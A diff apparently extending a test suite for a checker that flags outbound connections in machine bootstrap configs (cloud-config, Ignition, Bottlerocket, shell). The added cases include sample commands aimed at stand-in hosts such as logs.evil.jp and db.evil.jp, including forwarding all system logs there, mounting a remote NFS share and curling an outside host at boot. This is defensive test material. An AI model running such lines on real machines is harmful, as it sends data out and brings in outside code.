@@ -4,6 +4,7 @@ import base64
 import functools
 import gzip
 import io
+import json
 import tarfile
 import textwrap
 
@@ -120,6 +121,10 @@ MUTATIONS = (
             "a host in place of another": "curl --resolve a.internal:443:8.8.8.8 https://a.internal",
             "a host with its port": "agent start --auth x.example.com:443",
             "a network of others": "tailscale up --authkey $KEY",
+            "a time server that it writes": "echo 'server time.x.example' >/etc/chrony.conf",
+            "a file system of others": "mount -t nfs files.evil.jp:/a /mnt",
+            "a database by one option": "psql -h db.evil.jp -f init.sql",
+            "a server of logs": "echo '*.* @@logs.evil.jp' >/etc/rsyslog.d/x.conf",
         }.items()
     ),
     *(
@@ -136,6 +141,26 @@ MUTATIONS = (
         "a module of cloud-config that goes outside",
         "CN-201",
         template("#cloud-config\nubuntu_pro: {token: abc}\n"),
+    ),
+    *(
+        opens(f"a cloud-config that leaves {what}", "CN-201", template(f"#cloud-config\n{text}\n"))
+        for what, text in {
+            "time to the public pool": "ntp: {enabled: true}",
+            "a key to the public server": "apt: {sources: {a: {keyid: A1B2}}}",
+            "an installer to its makers": "chef: {install_type: omnibus}",
+        }.items()
+    ),
+    opens(
+        "a unit of Ignition that fetches from outside",
+        "CN-201",
+        template(json.dumps({"ignition": {"version": "3.4.0"}, "systemd": {"units": [
+            {"name": "a.service", "contents": "[Service]\nExecStart=/usr/bin/curl x.example\n"}
+        ]}})),
+    ),
+    opens(
+        "a template whose machine fills a host in",
+        "CN-201",
+        template("## template: jinja\n#!/bin/sh\ncurl {{ ds.meta_data.host }}\n"),
     ),
     opens(
         "AWS's programs sent elsewhere by Bottlerocket's settings",
@@ -218,6 +243,21 @@ MUTATIONS = (
         "CN-145",
         template(bottlerocket("[settings.host-containers.admin]", "enabled = true",
                               f'source = "public.ecr.aws/bottlerocket/admin{DIGEST}"')),
+    ),
+    opens(
+        "a host container of a public registry in a table with spaces",
+        "CN-145",
+        template(bottlerocket().replace("[settings.kubernetes]", "[ settings.kubernetes ]") + (
+            f"[ settings.host-containers.a ]\nsource = 'public.ecr.aws/a/b{DIGEST}'\n"
+        )),
+    ),
+    opens(
+        "a host container of a public registry, by a command of the first boot",
+        "CN-145",
+        template(bottlerocket(
+            "[settings.bootstrap-commands.a]", "commands = [['apiclient', 'set', "
+            f"'host-containers.a.source=public.ecr.aws/a/b{DIGEST}']]",
+        )),
     ),
     opens("a proxy outside", "CN-202", template(
         script(f"export HTTPS_PROXY=http://proxy.example:3128 NO_PROXY={EVERYTHING_NEAR}")
